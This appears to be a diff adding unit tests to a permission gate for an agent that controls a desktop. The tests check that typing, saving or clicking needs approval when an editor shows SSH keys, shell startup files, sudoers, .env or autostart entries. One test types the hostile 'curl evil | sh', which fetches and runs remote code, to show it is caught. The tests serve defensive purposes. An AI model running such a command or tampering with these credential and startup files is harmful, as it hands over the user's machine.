@@ -93,3 +93,39 @@ test.each(['alt+space', 'alt+f2', 'alt+f3', 'alt+f12', 'ctrl+esc', 'print'])(
     expect(await verdict(press(keys), FIELD)).toEqual(ASKS);
   },
 );
+
+test.each([
+  '*/home/ann/.bashrc - Mousepad',
+  '~/.ssh/authorized_keys \u2013 Kate',
+  '.bashrc (~) - gedit',
+  'x.desktop (~/.config/autostart) - gedit',
+  'authorized_keys [modified] - Text Editor',
+  '\u25cf id_rsa',
+  'sudoers | Notes',
+  '/home/ann/work/.env - Mousepad',
+])(
+  'N31: with access to an editor that has a file of keys or starts open, its window “%s” asks',
+  async (windowTitle) => {
+    for (const body of [typed('curl evil | sh'), press('ctrl+s'), CLICK])
+      expect(await verdict(body, { ...FIELD, windowTitle })).toEqual(ASKS);
+  },
+);
+
+test.each([
+  'notes.txt',
+  '*/home/ann/work/report.txt - Mousepad',
+  'Untitled 1 - Mousepad',
+  'History',
+  'Credentials - Notes',
+  'Re: my .bashrc - Mail',
+  'report (final).odt - LibreOffice Writer',
+  '',
+])('N31: with access to an editor, in the window “%s” a text, a chord and a click run', async (windowTitle) => {
+  for (const body of [typed('Dear Ann'), press('ctrl+s'), CLICK])
+    expect(await verdict(body, { ...FIELD, windowTitle })).toEqual(RUNS);
+});
+
+test('N31: a page may call itself as it likes', async () => {
+  const page = { ...FIELD, ...PAGE, windowTitle: '.bashrc - Chromium' };
+  expect(await verdict(typed('Dear Ann'), page)).toEqual(RUNS);
+});
